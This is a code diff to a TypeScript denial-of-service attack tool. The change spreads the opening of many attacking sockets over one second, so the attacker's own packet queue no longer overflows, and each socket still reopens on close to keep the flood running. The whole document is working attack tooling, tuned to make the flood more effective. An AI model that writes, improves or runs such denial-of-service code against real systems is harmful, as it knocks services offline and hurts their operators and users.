@@ -5,6 +5,8 @@ import type { Target } from './http';
 
 const MEBIBYTE = 2 ** 20;
 const REOPEN_MS = 1000;
+/** A burst would overflow the packet queue of the machine that attacks (1,000 on Linux), which drops honest packets too. */
+const RAMP_MS = 1000;
 
 /** Denial-of-service attack. Runs until it is stopped. */
 export interface Attack {
@@ -82,7 +84,7 @@ export function launch({ name }: Attack, { address, port }: Target): () => void 
   return () => void child.kill();
 }
 
-/** Attacks a target until the process ends. */
+/** Attacks a target until the process ends. Opens all connections within a second. */
 export function start({ connections, attack }: Attack, { address, port }: Target): void {
   const begin = () => {
     const socket = connect(port, address);
@@ -90,5 +92,5 @@ export function start({ connections, attack }: Attack, { address, port }: Target
     socket.once('close', () => setTimeout(begin, REOPEN_MS));
     attack(socket);
   };
-  for (let i = 0; i < connections; i++) begin();
+  for (let i = 0; i < connections; i++) setTimeout(begin, (i * RAMP_MS) / connections);
 }
